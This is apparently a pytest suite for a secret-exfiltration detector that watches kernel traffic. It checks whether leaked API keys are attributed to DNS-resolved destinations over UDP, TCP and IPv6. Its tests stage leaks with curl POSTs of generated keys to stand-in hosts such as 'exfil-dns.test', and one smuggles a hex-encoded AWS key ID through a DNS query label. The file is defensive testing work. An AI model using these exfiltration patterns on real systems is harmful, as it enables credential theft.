"""DNS on the real kernel (issue 4): answers name the destination, queries are scanned.

A tiny DNS server (this test process, outside the test cgroup) listens on a random 127.53.x.y
address, port 53. Clients run inside the test cgroup AND in a private mount namespace whose
/etc/resolv.conf is a bind mount naming that server, so the host's resolver configuration is
never touched. The clients resolve through glibc (getaddrinfo: connect + sendmmsg + recvfrom),
with no --resolve: the only way the agent can learn the name is the DNS answer it captured.
"""

import json
import secrets
import socket
import struct
import threading
import time

import pytest

from kharness.servers import RecordingServer

ALERT_TIMEOUT = 5.0
QUIET_PERIOD = 3.0
TTL = 30


def _wait_counter(agent, suffix: str, minimum: int = 1, timeout: float = ALERT_TIMEOUT) -> int:
    """The counter once it reaches `minimum` (the stats file is rewritten about every second)."""
    deadline = time.monotonic() + timeout
    while agent.counter(suffix) < minimum and time.monotonic() < deadline:
        time.sleep(0.1)
    return agent.counter(suffix)


def _qname(packet: bytes) -> tuple[str, int, int]:
    """Question name, qtype and the offset after the question of a query."""
    at, labels = 12, []
    while packet[at]:
        n = packet[at]
        labels.append(packet[at + 1:at + 1 + n].decode("ascii", "replace"))
        at += 1 + n
    qtype = struct.unpack("!H", packet[at + 1:at + 3])[0]
    return ".".join(labels), qtype, at + 5


class DnsServer:
    """Answers A queries for the names it knows (AAAA ones for names mapped to an IPv6 address),
    the other type with no records, the rest NXDOMAIN; over UDP and over TCP (2-byte length
    prefix), on the same address."""

    def __init__(self, names: dict[str, str]):
        self.names = {k.lower(): v for k, v in names.items()}
        self.queries: list[str] = []
        self.address = f"127.53.{secrets.randbelow(250) + 1}.{secrets.randbelow(250) + 1}"
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((self.address, 53))
        self.sock.settimeout(0.2)
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind((self.address, 53))
        self.tcp.listen(8)
        self.tcp.settimeout(0.2)
        self.tcp_queries = 0
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()
        self._tcp_thread = threading.Thread(target=self._serve_tcp, daemon=True)
        self._tcp_thread.start()

    def _serve_tcp(self):
        while not self._stop:
            try:
                conn, _ = self.tcp.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(2.0)
                try:
                    while True:  # glibc may ask A and AAAA on one connection
                        head = conn.recv(2, socket.MSG_WAITALL)
                        if len(head) < 2:
                            break
                        packet = conn.recv(struct.unpack("!H", head)[0], socket.MSG_WAITALL)
                        self.tcp_queries += 1
                        answer = self._answer(packet)
                        conn.sendall(struct.pack("!H", len(answer)) + answer)
                except (IndexError, struct.error, OSError):
                    continue

    def _serve(self):
        while not self._stop:
            try:
                packet, peer = self.sock.recvfrom(4096)
            except socket.timeout:
                continue
            except OSError:
                return
            try:
                self.sock.sendto(self._answer(packet), peer)
            except (IndexError, struct.error, OSError):
                continue

    def _answer(self, packet: bytes) -> bytes:
        name, qtype, end = _qname(packet)
        self.queries.append(name)
        ip = self.names.get(name.lower())
        rcode = 0 if ip else 3  # NXDOMAIN for names it does not know
        answers = b""
        if ip and qtype == 1 and ":" not in ip:
            answers = (b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, TTL, 4) + socket.inet_aton(ip))
        elif ip and qtype == 28 and ":" in ip:
            answers = (b"\xc0\x0c" + struct.pack("!HHIH", 28, 1, TTL, 16) +
                       socket.inet_pton(socket.AF_INET6, ip))
        header = packet[:2] + struct.pack("!HHHHH", 0x8180 | rcode, 1, 1 if answers else 0, 0, 0)
        return header + packet[12:end] + answers

    def resolv_conf(self, scratch, tcp: bool = False) -> str:
        path = scratch / "resolv.conf"
        options = "timeout:2 attempts:2" + (" use-vc" if tcp else "")
        path.write_text(f"nameserver {self.address}\noptions {options}\n")
        path.chmod(0o644)
        return str(path)

    def close(self):
        self._stop = True
        self._thread.join(timeout=2)
        self._tcp_thread.join(timeout=2)
        self.sock.close()
        self.tcp.close()


@pytest.fixture
def dns_server():
    servers = []

    def start(names):
        servers.append(DnsServer(names))
        return servers[-1]

    yield start
    for s in servers:
        s.close()


def _with_resolver(resolv_conf: str, argv: list[str]) -> list[str]:
    """argv run in a private mount namespace whose /etc/resolv.conf is `resolv_conf`."""
    script = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, resolv_conf,
            *argv]


def _curl_post(url: str, body_file) -> list[str]:
    return ["curl", "-sS", "--fail", "--noproxy", "*", "--max-time", "15", "-H",
            "Content-Type: application/json", "--data-binary", f"@{body_file}", url]


def _alerts_text(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _post_key(clients, registry, scratch, dns, kind: str, url: str, tcp: bool = False) -> None:
    """curl POSTs a fresh `kind` key as JSON to `url`, its name resolved through `dns`."""
    body = scratch / "body.json"
    body.write_text(json.dumps({"api_key": registry.new(kind)}))
    clients.run(_with_resolver(dns.resolv_conf(scratch, tcp=tcp), _curl_post(url, body)))


def _destination(agent, provider: str) -> tuple[dict, str]:
    """The first `provider` alert's destination, and the alerts as text for a failure."""
    alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == provider,
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert\n{agent.diagnostics()}"
    return alerts[0]["destination"], _alerts_text(agent, alerts)


def test_plain_http_to_a_name_resolved_by_dns_alerts_with_that_name(
        agent, clients, http_server, dns_server, registry, scratch):
    dns = dns_server({"exfil-dns.test": "127.0.0.1"})
    _post_key(clients, registry, scratch, dns, "openai",
              f"http://exfil-dns.test:{http_server.port}/v1/collect")
    assert "exfil-dns.test" in dns.queries, "curl did not resolve through the test DNS server"
    assert http_server.wait_for_requests(1), "the request never reached the server"

    dest, shown = _destination(agent, "openai")
    assert (dest["host"], dest["name_source"], dest["ip"], dest["port"]) == (
        "exfil-dns.test", "dns", "127.0.0.1", http_server.port), shown
    assert _wait_counter(agent, "dns_addresses_learned") >= 1


def test_a_name_resolved_over_tcp_names_the_destination_too(
        agent, clients, http_server, dns_server, registry, scratch):
    # resolv.conf "options use-vc": glibc asks over TCP and reads the answer with read(), the
    # length prefix and the message apart.
    dns = dns_server({"exfil-tcp.test": "127.0.0.1"})
    _post_key(clients, registry, scratch, dns, "anthropic",
              f"http://exfil-tcp.test:{http_server.port}/v1/messages", tcp=True)
    assert dns.tcp_queries >= 1, "curl did not resolve over TCP"
    assert http_server.wait_for_requests(1)

    dest, shown = _destination(agent, "anthropic")
    assert (dest["host"], dest["name_source"]) == ("exfil-tcp.test", "dns"), shown


def test_an_aaaa_answer_names_an_ipv6_destination(
        agent, clients, dns_server, registry, scratch):
    dns = dns_server({"exfil-v6.test": "::1"})
    server = RecordingServer(host="::1")
    try:
        _post_key(clients, registry, scratch, dns, "openai",
                  f"http://exfil-v6.test:{server.port}/v1/collect")
        assert server.wait_for_requests(1), "the request never reached the server on ::1"

        dest, shown = _destination(agent, "openai")
        assert (dest["host"], dest["name_source"], dest["ip"], dest["port"]) == (
            "exfil-v6.test", "dns", "::1", server.port), shown
    finally:
        server.close()


def test_plain_http_to_the_expected_provider_name_from_dns_is_quiet(
        agent, clients, http_server, dns_server, registry, scratch):
    """The DNS name is the destination's identity (design §3): an OpenAI key going to the
    address the resolver gave for api.openai.com is an expected destination, as it is with SNI.
    The counter proves the key was seen and judged, not missed."""
    dns = dns_server({"api.openai.com": "127.0.0.1"})
    _post_key(clients, registry, scratch, dns, "openai",
              f"http://api.openai.com:{http_server.port}/v1/chat/completions")
    assert http_server.wait_for_requests(1)

    assert _wait_counter(agent, "secrets_to_expected_destinations") >= 1, agent.diagnostics()
    assert _wait_counter(agent, "dns_addresses_learned") >= 1
    time.sleep(QUIET_PERIOD)
    openai = [a for a in agent.alerts() if a["secret"]["provider"] == "openai"]
    assert not openai, _alerts_text(agent, openai)


def test_dns_query_carrying_a_hex_encoded_key_alerts(
        agent, clients, dns_server, registry, scratch):
    dns = dns_server({"exfil-dns.test": "127.0.0.1"})
    key = registry.new("aws-id")
    label = key.encode().hex()  # 40 characters: one label
    name = f"{label}.exfil-dns.test"
    clients.run(_with_resolver(dns.resolv_conf(scratch), ["getent", "hosts", name]),
                check=False)  # NXDOMAIN: getent exits 2
    assert name in dns.queries, f"query not seen by the test DNS server: {dns.queries}"

    alerts = agent.wait_for_alerts(lambda a: a["secret"]["type"] == "aws-access-key-id",
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for the key in a DNS label\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["destination"]["ip"] == dns.address, _alerts_text(agent, alerts)
    assert alert["destination"]["port"] == 53
    assert alert["destination"]["transport"] == "udp"
    assert alert["process"]["comm"] == "getent"
    assert "dns" in alert["evidence"]["decoding"], _alerts_text(agent, alerts)
